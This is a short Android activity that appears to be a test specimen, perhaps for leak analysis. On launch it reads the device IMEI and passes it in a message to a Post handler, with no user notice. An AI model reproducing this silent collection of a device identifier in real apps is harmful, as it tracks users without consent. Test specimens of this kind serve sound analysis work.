package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;
import android.os.Message;
import android.os.Messenger;
import android.os.RemoteException;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        Message message = Message.obtain();
        Bundle data = new Bundle();
        data.putString("kept", Imei.read(this));
        message.setData(data);
        try {
            new Messenger(new Post()).send(message);
        } catch (RemoteException error) {
            finish();
        }
    }
}
